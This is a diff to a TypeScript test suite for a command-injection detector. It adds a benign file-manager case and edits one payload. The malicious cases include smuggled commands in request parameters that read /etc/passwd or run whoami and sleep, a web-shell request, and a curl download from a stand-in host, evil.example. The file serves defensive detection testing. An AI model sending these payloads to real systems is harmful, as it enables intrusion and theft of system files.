@@ -74,7 +74,7 @@ export const cases: readonly DetectionCase[] = [
     "IFS for spaces": get("/ping?host=x;cat${IFS}/etc/passwd"),
     "a brace list": get("/ping?host=x;{cat,/etc/passwd}"),
     "a word in pieces": get("/ping?host=x;c'a't /etc/passwd"),
-    "backslashes in a word": get("/ping?host=x|w\\ho\\am\\i"),
+    "backslashes in a word": get("/ping?host=x;w\\ho\\am\\i"),
     "a web shell": get("/uploads/x.php?cmd=whoami"),
     "a timing probe": post("/ping", "host=x;sleep 10"),
     "a download in a JSON body": post("/ping", '{"host":"x; curl http://evil.example/x.sh"}'),
@@ -99,6 +99,7 @@ export const cases: readonly DetectionCase[] = [
   ...quiet({
     "a list of fields": get("/users?fields=name|id|email"),
     "parameters named like commands": get("/list?a=1&id&env&cat=shoes;id=5"),
+    "a file manager": get("/connector.php?cmd=ls&target=l1_Lw"),
     "prose about cats": post("/posts", "Wait; cat pictures! Then ls, and sleep. Dogs || cats & more"),
     "jQuery code": post("/files", "$(id).hide(); $('#env').show(); var f = function() { return x; };"),
     "Markdown code": post("/posts", "Use `cat file.txt` or `ls -la` to look"),
